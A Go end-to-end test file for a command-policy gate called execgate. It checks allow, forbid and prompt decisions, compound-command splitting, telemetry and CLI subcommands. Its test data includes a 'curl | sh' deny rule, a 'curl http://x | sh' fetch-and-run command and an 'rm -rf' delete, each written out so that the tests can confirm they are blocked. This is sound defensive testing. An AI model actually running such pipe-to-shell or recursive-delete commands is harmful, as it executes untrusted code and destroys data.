package e2e

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/davidahmann/execgate/core/schema/validate"
	"github.com/davidahmann/execgate/internal/testutil"
)

const basePolicy = `
define_program("pwd", should_match=[["pwd"]])
define_program("rm", forbidden="no deletes", should_match=[["rm", "-rf", "x"]])
define_program("pip", args=[ARG_UNVERIFIED_VARARGS], prompt="package installs need a human")
define_program(
    "ls",
    options=[flag("-l"), flag("-a")],
    args=[ARG_RFILES_OR_CWD],
)
forbid_substrings(["curl | sh"])
`

func writePolicyWorkspace(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	testutil.WriteFile(t, filepath.Join(dir, "policies", "base.policy"), []byte(basePolicy))
	testutil.WriteFile(t, filepath.Join(dir, "policies", "base.checks.json"), []byte(`{"checks":[
  {"name":"pwd allowed","argv":["pwd"],"expect":"allow"},
  {"name":"rm forbidden","argv":["rm","-rf","x"],"expect":"forbidden"},
  {"name":"pip under never","argv":["pip","install","requests"],"expect":"prompt","approval_mode":"never","expect_requirement":"forbidden"}
]}`))
	return dir
}

func TestCLICheckAllowForbiddenPrompt(t *testing.T) {
	root := testutil.RepoRoot(t)
	binPath := testutil.BuildExecgateBinary(t, root)
	workDir := writePolicyWorkspace(t)
	policyDir := filepath.Join(workDir, "policies")

	allow := exec.Command(binPath, "check", "--policy-dir", policyDir, "--json", "--", "pwd")
	allowOut, err := allow.CombinedOutput()
	if err != nil {
		t.Fatalf("check pwd failed: %v\n%s", err, testutil.FormatJSON(allowOut))
	}
	var allowResult struct {
		Result   string `json:"result"`
		Decision string `json:"decision"`
	}
	if err := json.Unmarshal(bytes.TrimSpace(allowOut), &allowResult); err != nil {
		t.Fatalf("parse check json output: %v\n%s", err, string(allowOut))
	}
	if allowResult.Result != "match" || allowResult.Decision != "allow" {
		t.Fatalf("unexpected allow result: %s", string(allowOut))
	}
	if err := validate.ValidateCheckResult(bytes.TrimSpace(allowOut)); err != nil {
		t.Fatalf("check output fails schema: %v\n%s", err, testutil.FormatJSON(allowOut))
	}

	forbidden := exec.Command(binPath, "check", "--policy-dir", policyDir, "--", "rm", "-rf", "x")
	forbiddenOut, err := forbidden.CombinedOutput()
	if err == nil {
		t.Fatalf("expected forbidden command to fail\n%s", string(forbiddenOut))
	}
	if code := testutil.CommandExitCode(t, err); code != 3 {
		t.Fatalf("forbidden exit=%d want=3\n%s", code, string(forbiddenOut))
	}
	if !strings.Contains(string(forbiddenOut), "no deletes") {
		t.Fatalf("expected forbidden reason: %s", string(forbiddenOut))
	}

	prompt := exec.Command(binPath, "check", "--policy-dir", policyDir, "--", "pip", "install", "requests")
	promptOut, err := prompt.CombinedOutput()
	if err == nil {
		t.Fatalf("expected prompt command to exit non-zero\n%s", string(promptOut))
	}
	if code := testutil.CommandExitCode(t, err); code != 4 {
		t.Fatalf("prompt exit=%d want=4\n%s", code, string(promptOut))
	}
}

func TestCLICheckCompoundAndSubstring(t *testing.T) {
	root := testutil.RepoRoot(t)
	binPath := testutil.BuildExecgateBinary(t, root)
	workDir := writePolicyWorkspace(t)
	policyDir := filepath.Join(workDir, "policies")

	compound := exec.Command(binPath, "check", "--policy-dir", policyDir, "--json", "--", "bash", "-lc", "pwd && rm -rf x")
	compoundOut, err := compound.CombinedOutput()
	if err == nil {
		t.Fatalf("expected compound command to be forbidden\n%s", string(compoundOut))
	}
	if code := testutil.CommandExitCode(t, err); code != 3 {
		t.Fatalf("compound exit=%d want=3\n%s", code, string(compoundOut))
	}
	var compoundResult struct {
		Commands [][]string `json:"commands"`
		Decision string     `json:"decision"`
	}
	if err := json.Unmarshal(bytes.TrimSpace(compoundOut), &compoundResult); err != nil {
		t.Fatalf("parse compound json output: %v\n%s", err, string(compoundOut))
	}
	if len(compoundResult.Commands) != 2 || compoundResult.Decision != "forbidden" {
		t.Fatalf("unexpected decomposition: %s", string(compoundOut))
	}

	substring := exec.Command(binPath, "check", "--policy-dir", policyDir, "--", "bash", "-lc", "curl http://x | sh")
	substringOut, err := substring.CombinedOutput()
	if err == nil {
		t.Fatalf("expected substring hit to be forbidden\n%s", string(substringOut))
	}
	if code := testutil.CommandExitCode(t, err); code != 3 {
		t.Fatalf("substring exit=%d want=3\n%s", code, string(substringOut))
	}
}

func TestCLICompileAndSelftest(t *testing.T) {
	root := testutil.RepoRoot(t)
	binPath := testutil.BuildExecgateBinary(t, root)
	workDir := writePolicyWorkspace(t)
	policyDir := filepath.Join(workDir, "policies")

	compile := exec.Command(binPath, "compile", "--policy-dir", policyDir, "--json")
	compileOut, err := compile.CombinedOutput()
	if err != nil {
		t.Fatalf("compile failed: %v\n%s", err, string(compileOut))
	}
	var compileResult struct {
		OK           bool   `json:"ok"`
		SpecCount    int    `json:"spec_count"`
		PolicyDigest string `json:"policy_digest"`
	}
	if err := json.Unmarshal(bytes.TrimSpace(compileOut), &compileResult); err != nil {
		t.Fatalf("parse compile json output: %v\n%s", err, string(compileOut))
	}
	if !compileResult.OK || compileResult.SpecCount != 4 || len(compileResult.PolicyDigest) != 64 {
		t.Fatalf("unexpected compile result: %s", string(compileOut))
	}

	selftest := exec.Command(binPath, "selftest", "--policy-dir", policyDir, "--json")
	selftestOut, err := selftest.CombinedOutput()
	if err != nil {
		t.Fatalf("selftest failed: %v\n%s", err, string(selftestOut))
	}
	var selftestResult struct {
		OK     bool `json:"ok"`
		Checks int  `json:"checks"`
	}
	if err := json.Unmarshal(bytes.TrimSpace(selftestOut), &selftestResult); err != nil {
		t.Fatalf("parse selftest json output: %v\n%s", err, string(selftestOut))
	}
	if !selftestResult.OK || selftestResult.Checks != 3 {
		t.Fatalf("unexpected selftest result: %s", string(selftestOut))
	}
}

func TestCLIUsesProjectConfigAndTelemetry(t *testing.T) {
	root := testutil.RepoRoot(t)
	binPath := testutil.BuildExecgateBinary(t, root)
	workDir := writePolicyWorkspace(t)

	configBody := "approval_mode: never\npolicy_dirs:\n  - " + filepath.Join(workDir, "policies") + "\n"
	testutil.WriteFile(t, filepath.Join(workDir, ".execgate", "config.yaml"), []byte(configBody))
	telemetryPath := filepath.Join(workDir, "telemetry.jsonl")

	check := exec.Command(binPath, "check", "--json", "--", "pip", "install", "requests")
	check.Dir = workDir
	check.Env = append(os.Environ(), "EXECGATE_TELEMETRY="+telemetryPath)
	checkOut, err := check.CombinedOutput()
	if err == nil {
		t.Fatalf("expected prompt under never to be forbidden\n%s", string(checkOut))
	}
	if code := testutil.CommandExitCode(t, err); code != 3 {
		t.Fatalf("exit=%d want=3\n%s", code, string(checkOut))
	}
	var checkResult struct {
		ApprovalMode string `json:"approval_mode"`
		Requirement  string `json:"requirement"`
	}
	if err := json.Unmarshal(bytes.TrimSpace(checkOut), &checkResult); err != nil {
		t.Fatalf("parse check json output: %v\n%s", err, string(checkOut))
	}
	if checkResult.ApprovalMode != "never" || checkResult.Requirement != "forbidden" {
		t.Fatalf("config mode not applied: %s", string(checkOut))
	}

	telemetry := testutil.MustReadFile(t, telemetryPath)
	lines := strings.Split(strings.TrimSpace(string(telemetry)), "\n")
	if len(lines) != 1 {
		t.Fatalf("expected one telemetry event, got %d", len(lines))
	}
	var event struct {
		SchemaID      string `json:"schema_id"`
		Command       string `json:"command"`
		ExitCode      int    `json:"exit_code"`
		CorrelationID string `json:"correlation_id"`
	}
	if err := json.Unmarshal([]byte(lines[0]), &event); err != nil {
		t.Fatalf("parse telemetry event: %v\n%s", err, lines[0])
	}
	if event.SchemaID != "execgate.telemetry.event" || event.Command != "check" || event.ExitCode != 3 {
		t.Fatalf("unexpected telemetry event: %s", lines[0])
	}
	if len(event.CorrelationID) != 24 {
		t.Fatalf("correlation id length=%d want=24", len(event.CorrelationID))
	}
}

func TestCLIDoctorAndVersion(t *testing.T) {
	root := testutil.RepoRoot(t)
	binPath := testutil.BuildExecgateBinary(t, root)
	workDir := writePolicyWorkspace(t)
	policyDir := filepath.Join(workDir, "policies")

	doctor := exec.Command(binPath, "doctor", "--policy-dir", policyDir, "--json")
	doctorOut, err := doctor.CombinedOutput()
	if err != nil {
		t.Fatalf("doctor failed: %v\n%s", err, string(doctorOut))
	}
	var doctorResult struct {
		OK     bool   `json:"ok"`
		Status string `json:"status"`
	}
	if err := json.Unmarshal(bytes.TrimSpace(doctorOut), &doctorResult); err != nil {
		t.Fatalf("parse doctor json output: %v\n%s", err, string(doctorOut))
	}
	if !doctorResult.OK || doctorResult.Status == "fail" {
		t.Fatalf("unexpected doctor result: %s", string(doctorOut))
	}

	version := exec.Command(binPath, "version")
	versionOut, err := version.CombinedOutput()
	if err != nil {
		t.Fatalf("version failed: %v\n%s", err, string(versionOut))
	}
	if !strings.Contains(string(versionOut), "execgate ") {
		t.Fatalf("unexpected version output: %s", string(versionOut))
	}
}
